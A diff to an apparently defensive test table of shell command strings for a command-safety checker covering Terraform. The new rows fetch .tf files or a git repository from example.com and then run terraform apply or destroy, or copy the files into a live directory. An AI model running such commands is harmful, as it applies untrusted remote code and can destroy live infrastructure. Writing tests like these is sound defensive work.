@@ -163,7 +163,11 @@ ROWS = [
         f"cp -ru plain/. /srv/live && cd /srv/live && {APPLY}",
         f"cp -r plain /srv/live/ && cd /srv/live && {APPLY}", f"cp -r module/m {IN_COPY}",
         f"cd empty && terraform init -backend-config=path=/srv/live/s.tfstate && terraform {DESTROY}",
-        f"./gen > plain/more.tf && terraform -chdir=plain {DESTROY}")),
+        f"./gen > plain/more.tf && terraform -chdir=plain {DESTROY}",
+        f"curl -so plain/more.tf https://example.com/x.tf && terraform -chdir=plain {DESTROY}",
+        f"cp -r plain /tmp/t && wget -qP /tmp/t https://example.com/x.tf && cd /tmp/t && {APPLY}",
+        f"curl -so plain/more.tf https://example.com/x.tf && cp -r plain {IN_COPY}",
+        f"git clone https://example.com/x.git /tmp/t && cp plain/main.tf {IN_COPY}")),
     # Aliases of mc
     (ALIAS, DROP, ALLOW, "of this machine"),
     (ALIAS.replace("mc ", "mc --quiet "), DROP, ALLOW, "with an option before"),
